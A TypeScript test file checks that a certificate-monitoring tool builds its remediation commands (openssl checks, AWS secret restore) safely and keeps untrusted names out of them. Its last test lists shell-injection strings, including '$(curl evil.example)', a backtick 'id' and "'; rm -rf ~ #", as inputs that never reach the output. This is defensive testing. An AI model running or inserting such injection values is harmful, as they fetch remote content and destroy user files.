import { expect, test } from 'vitest';
import { commandFor } from '#shared/finish/alert/commands.ts';
import type { Condition, ConditionType } from '#shared/status/condition.ts';
import { conditionTypes } from '#shared/status/condition.ts';
import { troubled } from '#test/support/fleet-status.ts';

const installation = { name: 'certkeep', account: '123456789012', region: 'eu-central-1' };

function command(change: Partial<Condition>, name: string | null = 'shop.example.com') {
  const condition = { ...troubled(), ...change };
  return commandFor({ certificate: 'shop', condition }, { installation, name });
}

test('a certificate for a wildcard is asked for at a name below it', () => {
  expect(command({ type: 'Served', about: 'web:8443 (eu-central-1)' }, '*.example.com')).toContain(
    '-connect www.example.com:8443 -servername www.example.com ',
  );
});

test('a secret is restored only where it is marked for deletion', () => {
  const marked = command({ type: 'Stored', reason: 'SecretMarkedForDeletion' });
  expect(marked).toMatch(/restore-secret --secret-id certkeep\/shop /);
  expect(command({ type: 'Stored', reason: 'SecretMissing' })).toContain('describe-secret');
});

const hostile = [
  '$(curl evil.example)',
  '`id`',
  "'; rm -rf ~ #",
  'a b',
  '-oProxyCommand=x',
  'a\nb',
];

test.each(hostile)('%j, which others have written, is no part of a command', (text) => {
  for (const type of Object.keys(conditionTypes) as ConditionType[]) {
    for (const reason of ['EarlierArnUsed', 'SecretMissing', 'EndpointContradicted']) {
      const condition = { ...troubled(), type, reason, about: text };
      const said = commandFor({ certificate: text, condition }, { installation, name: text });
      expect(said).not.toContain(text);
    }
  }
});
